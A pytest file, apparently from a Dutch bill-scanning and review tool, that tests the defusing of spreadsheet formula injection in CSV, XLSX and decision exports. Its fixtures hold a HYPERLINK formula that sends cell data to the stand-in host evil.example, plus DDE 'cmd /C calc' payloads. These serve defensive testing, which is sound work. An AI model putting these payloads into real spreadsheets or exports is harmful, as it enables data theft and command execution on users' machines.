"""Spreadsheet formula injection: a title or a reviewer's comment is text in every cell we write.

Hostile inputs: a bill whose title is a live ``=HYPERLINK`` formula with a control character
(illegal in XLSX) in it, and reviewer comments led by ``@``, ``+``, ``-``, a tab and ``=``. They
must arrive in ``summary.csv``, ``summary --xlsx`` and both decision exports as inert text.
"""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import openpyxl
import pandas as pd
import pytest
from fastapi.testclient import TestClient
from typer.testing import CliRunner

from tests.review.reports import meldpunt_report
from wetscan.batch.runner import BatchOptions, run_batch
from wetscan.batch.store import SUMMARY_COLUMNS, ResultStore
from wetscan.cli.app import app
from wetscan.report.sanitise import FORMULA_START, spreadsheet_cell
from wetscan.review import store
from wetscan.review.app import Settings, create_app
from wetscan.review.db import open_engine
from wetscan.review.importer import import_report

runner = CliRunner()

FORMULA_TITLE = '=HYPERLINK("http://evil.example/?d="&A1,"Wet meldpunten")\x01'
HOSTILE_BILL = """<html><head><title>=HYPERLINK("http://evil.example/?d="&amp;A1,"Wet meldpunten")&#x01;</title></head>
<body><p>Artikel 1</p><p>Het college stelt jaarlijks een plan vast.</p>
<p>Artikel 2</p><p>Deze wet treedt in werking op 1 januari 2027.</p></body></html>
"""
HOSTILE_COMMENTS = ["@SUM(1+1)*cmd|' /C calc'!A0", "+1+cmd|' /C calc'!A0", "-2+3", "\t=1+1", "=1+1\r"]


def _live(cell: object) -> bool:
    """Would a spreadsheet run this cell as a formula?"""
    return isinstance(cell, str) and cell.startswith(FORMULA_START)


def _no_live_cells(text: str) -> list[list[str]]:
    rows = list(csv.reader(io.StringIO(text)))
    live = [cell for row in rows for cell in row if _live(cell)]
    assert not live, live
    return rows


@pytest.mark.parametrize("start", list(FORMULA_START))
def test_every_formula_start_is_defused(start: str) -> None:
    assert spreadsheet_cell(f"{start}1+1").startswith("'")
    assert spreadsheet_cell("Wet meldpunten") == "Wet meldpunten"
    assert spreadsheet_cell(3.5) == 3.5 and spreadsheet_cell(None) is None


@pytest.fixture(scope="module")
def batch_out(tmp_path_factory: pytest.TempPathFactory) -> Path:
    folder = tmp_path_factory.mktemp("formulas")
    (folder / "in").mkdir()
    (folder / "in" / "wet.html").write_text(HOSTILE_BILL, encoding="utf-8")
    run_batch([folder / "in" / "wet.html"], BatchOptions(out=folder / "out"))
    return folder / "out"


def test_summary_csv_holds_the_title_as_text(batch_out: Path) -> None:
    rows = _no_live_cells((batch_out / "summary.csv").read_text(encoding="utf-8"))
    title = rows[1][rows[0].index("title")]
    assert title.startswith("'=HYPERLINK(") and title.endswith("␁")
    assert pd.read_parquet(batch_out / "summary.parquet")["title"][0] == FORMULA_TITLE  # data kept exact


def test_summary_xlsx_holds_the_title_as_text(batch_out: Path, tmp_path: Path) -> None:
    xlsx = tmp_path / "flagged.xlsx"
    result = runner.invoke(app, ["summary", str(batch_out), "--all", "--xlsx", str(xlsx)])
    assert result.exit_code == 0, result.output
    sheet = openpyxl.load_workbook(xlsx).active
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert not [cell.value for cell in cells if cell.data_type == "f" or _live(cell.value)]
    assert any(str(cell.value).startswith("'=HYPERLINK(") for cell in cells)
    assert not list(tmp_path.glob("*.tmp"))


def test_a_failed_xlsx_write_leaves_no_file_behind(batch_out: Path, tmp_path: Path, monkeypatch) -> None:
    xlsx = tmp_path / "flagged.xlsx"

    def _breaks_halfway(frame: pd.DataFrame, path: Path, **options: object) -> None:
        Path(path).write_bytes(b"PK\x03\x04 half a workbook")
        raise OSError(28, "No space left on device")

    monkeypatch.setattr(pd.DataFrame, "to_excel", _breaks_halfway)
    result = runner.invoke(app, ["summary", str(batch_out), "--xlsx", str(xlsx)])
    assert result.exit_code == 2 and "no space left on device" in result.output
    assert list(tmp_path.iterdir()) == []  # neither a truncated workbook nor its temporary file


def test_summary_of_a_hostile_table_row(tmp_path: Path) -> None:
    """Every summary column that holds text is defused, not only the title."""
    row = dict.fromkeys(SUMMARY_COLUMNS)
    row.update(path="=cmd|'/C calc'!A0.pdf", sha256="0" * 64, title="@A1", layers=["gemeente"],
               error="-1+1 damaged\x1b[2J", seconds=0.1)
    ResultStore(tmp_path).write_summary([row])
    _no_live_cells((tmp_path / "summary.csv").read_text(encoding="utf-8"))


@pytest.fixture
def decided_db(tmp_path: Path) -> str:
    db = str(tmp_path / "review.sqlite")
    engine = open_engine(db)
    report = meldpunt_report()
    report["title"] = FORMULA_TITLE
    with engine.begin() as connection:
        document_id = import_report(connection, report, "r.json").document_id
        for comment in HOSTILE_COMMENTS:
            store.record_decision(connection, document_id, "verdict", "udo", "agree", comment, "=reviewer")
    engine.dispose()
    return db


def test_review_export_csv_is_inert(decided_db: str, tmp_path: Path) -> None:
    out = tmp_path / "decisions.csv"
    result = runner.invoke(app, ["review", "export", "--db", decided_db, "--out", str(out)])
    assert result.exit_code == 0, result.output
    rows = _no_live_cells(out.read_text(encoding="utf-8"))
    comments = [row[rows[0].index("Comment / motivation")] for row in rows[1:]]
    assert comments[0] == "'@SUM(1+1)*cmd|' /C calc'!A0" and len(comments) == len(HOSTILE_COMMENTS)


def test_web_export_csv_is_inert(decided_db: str) -> None:
    engine = open_engine(decided_db)
    with TestClient(create_app(Settings(engine=engine, local_reviewer="fenna")), base_url="http://127.0.0.1") as web:
        response = web.get("/export/decisions.csv")
    assert response.status_code == 200
    rows = _no_live_cells(response.text)
    assert any(re.match(r"'=HYPERLINK", cell) for row in rows for cell in row)
